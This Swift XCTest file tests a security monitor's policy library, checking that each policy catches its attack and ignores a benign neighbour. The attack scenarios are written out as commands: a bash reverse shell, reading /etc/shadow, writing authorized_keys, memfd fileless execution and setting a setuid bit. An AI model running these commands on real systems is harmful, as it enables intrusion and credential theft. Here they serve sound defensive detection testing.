import Foundation
import XCTest

// kernel-test-host-only: the whole library in one agent: an emulated guest verifies each of its ~220 programs in ~2-3 s (VIGIL_VERIFIER_STATS in both guests, December 2026), over ten minutes before the agent is ready; each policy whose programs differ in a guest loads there through its attack or detection suite
/// Every policy in policies/ proven by the attack it names, and not raised by a benign
/// neighbour, in the running kernel (host: tracepoint/cgroup forms; guests: LSM forms where
/// a policy has one). "Remote hosts" are network namespaces over veth pairs made here.
///
/// One agent loads the whole monitor library exactly as the README's run command does
/// (`--policy-dir policies`); the enforcing policies run in a second agent.
final class PolicyLibraryTests: XCTestCase {
    static let repo = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().path

    /// One behaviour: a bash script, the policy (name prefix) that must or must not report it.
    struct Scenario {
        var policy: String
        var script: String
        var attack: Bool
        /// Expected exit status when an enforcing policy acts (nil: not checked).
        var status: Int32? = nil
    }

    struct Ran {
        var scenario: Scenario
        var pid: Int
        var status: Int32
        var stderr: String
    }

    /// Events of `policy` raised by the script's process or one of its children.
    static func events(_ all: [[String: Any]], policy: String, for pid: Int) -> [[String: Any]] {
        all.filter { e in
            guard let name = e.body["policy_name"] as? String, name.hasPrefix(policy) else { return false }
            return e.pid == pid || e.parent["pid"] as? Int == pid
        }
    }

    /// The library files of `directory` (base names).
    static func libraryNames(_ directory: String) throws -> Set<String> {
        Set(try FileManager.default.contentsOfDirectory(atPath: directory).filter { $0.hasSuffix(".yaml") }.map { String($0.dropLast(5)) })
    }

    /// Those that must have an attack and a benign scenario here: the ones without a detection
    /// suite of their own (tests/detections/NAME.yaml, run by DetectionLibraryTests with two
    /// procedures per technique). Here the whole library is loaded at once, every policy of it
    /// attached, suite or not.
    static func namesNeedingScenarios(_ directory: String) throws -> Set<String> {
        try libraryNames(directory).filter { !FileManager.default.fileExists(atPath: repo + "/tests/detections/" + $0 + ".yaml") }
    }

    func run(_ scenarios: [Scenario], agent: AgentHarness, covering directory: String, file: StaticString = #filePath, line: UInt = #line) throws {
        let names = try Self.libraryNames(directory)
        let needed = try Self.namesNeedingScenarios(directory)
        for attack in [true, false] {
            let covered = Set(scenarios.filter { $0.attack == attack }.map(\.policy))
            let kind = attack ? "an attack" : "a benign"
            XCTAssertTrue(
                needed.isSubset(of: covered), "\(needed.subtracting(covered).sorted()) in \(directory): no detection suite and no \(kind) scenario", file: file,
                line: line)
            XCTAssertTrue(
                covered.isSubset(of: names), "scenarios for policies not in \(directory): \(covered.subtracting(names).sorted())", file: file, line: line)
        }
        var ran: [Ran] = []
        for s in scenarios {
            let r = try KernelTest.run("/usr/bin/bash", ["-c", s.script])
            ran.append(Ran(scenario: s, pid: Int(r.pid), status: r.status, stderr: r.stderr))
        }
        // every attack reported (by its own policy); then the benign ones must have stayed quiet
        let attacks = ran.filter(\.scenario.attack)
        try agent.waitForAll { all in attacks.allSatisfy { !Self.events(all, policy: $0.scenario.policy, for: $0.pid).isEmpty } }
        let all = try agent.barrier()
        for r in ran {
            let mine = Self.events(all, policy: r.scenario.policy, for: r.pid)
            if r.scenario.attack {
                XCTAssertFalse(
                    mine.isEmpty, "\(r.scenario.policy): no event for the attack `\(r.scenario.script)` (stderr: \(r.stderr))", file: file, line: line)
                if let e = mine.first {
                    XCTAssertNotNil(e.process["exec_id"] as? String, "\(r.scenario.policy): the event names its process", file: file, line: line)
                }
            } else {
                XCTAssertTrue(
                    mine.isEmpty, "\(r.scenario.policy): the benign `\(r.scenario.script)` was reported: \(mine.first.map { "\($0)" } ?? "")", file: file,
                    line: line)
            }
            if let want = r.scenario.status {
                XCTAssertEqual(r.status, want, "\(r.scenario.policy): exit status of `\(r.scenario.script)` (stderr: \(r.stderr))", file: file, line: line)
            }
        }
    }

    func testMonitorLibraryCatchesEachAttackAndNotItsNeighbour() throws {
        try KernelTest.require(.cgroupSockAddr)
        let dir = try KernelTest.scratchDirectory()
        let peer = try NetnsPeer(subnet: 41)
        defer { peer.remove() }
        for port: UInt16 in [22, 4444, 8080, 8081] { try peer.listen(port: port) }
        let (lfd, localPort) = try PolicySocketTests.listener()
        defer { close(lfd) }
        for (name, from) in [("nginx", "/usr/bin/bash"), ("dropper", "/usr/bin/true")] {
            try FileManager.default.copyItem(atPath: from, toPath: "\(dir)/\(name)")
        }
        try FileManager.default.createDirectory(atPath: "\(dir)/.ssh", withIntermediateDirectories: true)
        let agent = try AgentHarness(extraArguments: ["--policy-dir", Self.repo + "/policies"])
        let p = peer.peerAddress
        try run(
            [
                // file integrity (hardlinks and other names: tests/attacks/fim-writes.yaml)
                Scenario(policy: "fim-sensitive-files", script: "echo x > /etc/ssh/vigil-library-test; rm -f /etc/ssh/vigil-library-test", attack: true),
                Scenario(policy: "fim-sensitive-files", script: "echo key > \(dir)/.ssh/authorized_keys", attack: true),
                Scenario(policy: "fim-sensitive-files", script: "chmod 644 /etc/passwd", attack: true),
                Scenario(
                    policy: "fim-sensitive-files", script: "echo x > \(dir)/notes; ln \(dir)/notes \(dir)/notes2; chmod 600 \(dir)/notes; rm \(dir)/notes2",
                    attack: false),
                Scenario(policy: "fim-sensitive-files", script: "cat /etc/passwd > /dev/null", attack: false),
                // credential access (LSM form on the guests, tracepoint form on the host)
                Scenario(policy: "credential-access", script: "cat /etc/shadow > /dev/null", attack: true),
                Scenario(policy: "credential-access", script: "cat /etc/hostname > /dev/null", attack: false),
                // a shell spawned by a network service (a copy of bash named nginx plays the service)
                Scenario(policy: "exec-shell-from-service", script: "\(dir)/nginx -c '/usr/bin/sh -c true; true'", attack: true),
                Scenario(policy: "exec-shell-from-service", script: "/usr/bin/bash -c '/usr/bin/sh -c true; true'", attack: false),
                // execution from writable directories, fileless execution
                Scenario(policy: "exec-from-writable-dirs", script: "\(dir)/dropper; true", attack: true),
                Scenario(policy: "exec-from-writable-dirs", script: "/usr/bin/true; true", attack: false),
                Scenario(
                    policy: "exec-fileless-memfd",
                    script:
                        "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"implant\"); os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); os.execve(\"/proc/self/fd/%d\" % fd, [\"implant\"], {})'; true",
                    attack: true),
                Scenario(
                    policy: "exec-fileless-memfd", script: "/usr/bin/python3 -c 'import os; os.execve(\"/usr/bin/true\", [\"true\"], {})'; true", attack: false),
                // setuid bit
                Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/suid; chmod u+s \(dir)/suid", attack: true),
                Scenario(policy: "setuid-bit-set", script: "cp /usr/bin/true \(dir)/plain; chmod 755 \(dir)/plain", attack: false),
                // lateral movement: SSH port on a "remote host" from an unexpected program; a web port is fine
                Scenario(
                    policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 22), 5)'", attack: true),
                Scenario(
                    policy: "lateral-admin-ports", script: "/usr/bin/python3 -c 'import socket; socket.create_connection((\"\(p)\", 8080), 5)'", attack: false),
                // a web server reaching into the internal network; its loopback back end is fine
                Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/\(p)/8081'", attack: true),
                Scenario(policy: "lateral-webserver-internal", script: "\(dir)/nginx -c 'exec 3<>/dev/tcp/127.0.0.1/\(localPort)'", attack: false),
                // reverse shell to a listener in the peer namespace; a shell's loopback connect is fine
                Scenario(policy: "reverse-shell", script: "timeout 2 bash -i >& /dev/tcp/\(p)/4444 0>&1; true", attack: true),
                Scenario(policy: "reverse-shell", script: "exec 3<>/dev/tcp/127.0.0.1/\(localPort)", attack: false),
            ], agent: agent, covering: Self.repo + "/policies")
        XCTAssertFalse(agent.stderrText().contains("policies failed"), agent.stderrText())
    }

    func testEnforcingLibraryDeniesAndKills() throws {
        try KernelTest.require(.cgroupSockAddr)
        let dir = try KernelTest.scratchDirectory()
        let peer = try NetnsPeer(subnet: 42)
        defer { peer.remove() }
        for port: UInt16 in [22, 8080] { try peer.listen(port: port) }
        try FileManager.default.copyItem(atPath: "/usr/bin/true", toPath: "\(dir)/dropper")
        let agent = try AgentHarness(extraArguments: ["--policy-dir", Self.repo + "/policies/enforce"])
        defer { _ = agent.stop() }  // the exec-from-/tmp killer must not outlive the test
        let lsm = ConnectDenyTests.lsmActive
        let p = peer.peerAddress
        try run(
            [
                Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/22", attack: true, status: 1),
                Scenario(policy: "deny-lateral-admin-ports", script: "exec 3<>/dev/tcp/\(p)/8080", attack: false, status: 0),
                // killed at exec (SIGKILL: 128 + 9 from bash's point of view)
                Scenario(policy: "kill-exec-from-writable-dirs", script: "\(dir)/dropper; exit $?", attack: true, status: 137),
                Scenario(policy: "kill-exec-from-writable-dirs", script: "/usr/bin/true", attack: false, status: 0),
                // LSM: the open fails (cat exits 1); tracepoint form: cat is killed before the open
                Scenario(policy: "deny-shadow-read", script: "cat /etc/shadow > /dev/null; exit $?", attack: true, status: lsm ? 1 : 137),
                Scenario(policy: "deny-shadow-read", script: "cat /etc/hostname > /dev/null", attack: false, status: 0),
            ], agent: agent, covering: Self.repo + "/policies/enforce")
        let denied = try agent.events().filter { ($0.body["policy_name"] as? String) == "deny-lateral-admin-ports" }
        XCTAssertEqual(denied.first?.body["action"] as? String, "KPROBE_ACTION_OVERRIDE")
    }
}
